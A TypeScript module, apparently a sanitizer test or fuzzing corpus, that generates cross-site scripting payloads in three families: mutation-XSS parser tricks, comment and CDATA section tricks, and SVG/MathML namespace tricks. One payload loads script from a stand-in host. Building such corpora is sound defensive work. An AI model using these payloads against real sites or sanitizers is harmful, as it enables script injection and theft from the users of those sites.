import type { Family } from '../family.ts'

/** What one parser takes for words and the next for markup. */
export const mutated: Family = {
  name: 'mXSS',
  makers: [
    code => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
    code =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    code => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    code =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
    code => `<svg><foreignObject><p><style><img src=x onerror=${code}></style></p></foreignObject></svg>`,
    code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    code => `<p title="&lt;/p&gt;&lt;img src=x onerror=${code}&gt;">words</p>`,
    code => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    code => `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`,
    code => `<textarea><p title="</textarea><img src=x onerror=${code}>"></textarea>`,
    code => `<title><a title="</title><img src=x onerror=${code}>"></title>`,
    code => `<iframe><p title="</iframe><img src=x onerror=${code}>"></iframe>`,
    code => `<noembed><p title="</noembed><img src=x onerror=${code}>">`,
    code => `<noframes><p title="</noframes><img src=x onerror=${code}>">`,
    code => `<plaintext><img src=x onerror=${code}>`,
    code => `<select><option><style></option></select><img src=x onerror=${code}></style>`,
    code => `<table><tr><td><svg><desc><table><img src=x onerror=${code}>`,
    code => `<p><svg><p><style><!--</style><img src=x onerror=${code}>--></style>`,
    code => `&lt;img src=x onerror=${code}&gt;`,
    code => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
    code => `<p>&lt;<b></b>img src=x onerror=${code}></p>`,
    code => `<<b></b>script>${code}<<b></b>/script>`,
    code => `<scr<script>ipt>${code}</scr</script>ipt>`,
    code => `<im<script></script>g src=x onerror=${code}>`,
    code => `<a href="https://a.b/?&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</a>`,
    code => `<span style="color:#fff&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</span>`,
    code =>
      `<p style="text-align:center;background:url('&quot;&gt;&lt;img src=x onerror=${code}&gt;')">x</p>`,
    code => `<template><img src=x onerror=${code}></template>`,
    code => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
    code => `<div><template shadowrootmode="open"><script>${code}</script></template></div>`,
    code => `<iframe srcdoc="<script>top.${code}</script>"></iframe>`,
    code => `<iframe srcdoc="&lt;img src=x onerror=parent.${code}&gt;">`,
    code => `<object><param name=x><img src=x onerror=${code}></object>`,
    code => `<frameset onload=${code}><frame src="javascript:${code}"></frameset>`,
  ],
}

export const comments: Family = {
  name: 'comments and sections',
  makers: [
    code => `<!--><img src=x onerror=${code}>-->`,
    code => `<!--><img src=x onerror=${code}>`,
    code => `<!---><img src=x onerror=${code}>-->`,
    code => `<!-- --!><img src=x onerror=${code}> -->`,
    code => `<!-- <p>--><img src=x onerror=${code}>`,
    code => `<![CDATA[><img src=x onerror=${code}>]]>`,
    code => `<svg><![CDATA[</svg><img src=x onerror=${code}>]]></svg>`,
    code => `<!DOCTYPE a ["><img src=x onerror=${code}>`,
    code => `<!ENTITY a "><img src=x onerror=${code}>">`,
    code => `<?xml version="1.0"?><img src=x onerror=${code}>?>`,
    code => `<?php <img src=x onerror=${code}>`,
    code => `<!><img src=x onerror=${code}>`,
    code => `</><img src=x onerror=${code}>`,
    code => `</ img src=x onerror=${code}>`,
    code => `<% <img src=x onerror=${code}> %>`,
    code => `<!--[if IE]><script>${code}</script><![endif]-->`,
  ],
}

export const drawings: Family = {
  name: 'namespaces',
  makers: [
    code => `<svg onload=${code}>`,
    code => `<svg><script>${code}</script></svg>`,
    code => `<svg><script href="data:,${code}"></script></svg>`,
    code => `<svg><script xlink:href="//canary.test/a.js?${code}"/></svg>`,
    code => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
    code => `<svg><set onbegin=${code} attributeName=x to=1>`,
    code => `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=9>x</text></a>`,
    code =>
      `<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${code}"/><text y=9>x</text></a>`,
    code =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${code}'/></svg>#x"/></svg>`,
    code => `<svg><image href=x onerror=${code}></svg>`,
    code =>
      `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></iframe></foreignObject></svg>`,
    code => `<svg><style>@import url("data:text/css,*{x:expression(${code})}")</style></svg>`,
    code => `<svg><handler type="text/javascript" ev:event="load">${code}</handler></svg>`,
    code => `<svg><discard onbegin=${code}>`,
    code => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${code}</x:script></svg>`,
    code => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    code => `<math href="javascript:${code}">x</math>`,
    code =>
      `<math><maction actiontype="statusline#http://a" xlink:href="javascript:${code}">x</maction></math>`,
    code => `<math><mi//xlink:href="data:x,<script>${code}</script>">`,
    code => `<math><mtext><script>${code}</script></mtext></math>`,
    code => `<svg><title><img src=x onerror=${code}></title></svg>`,
    code => `<svg><desc><script>${code}</script></desc></svg>`,
    code =>
      `<svg viewBox="0 0 9 9"><g onclick="${code}" onmouseover="${code}"><rect width=9 height=9 /></g></svg>`,
  ],
}
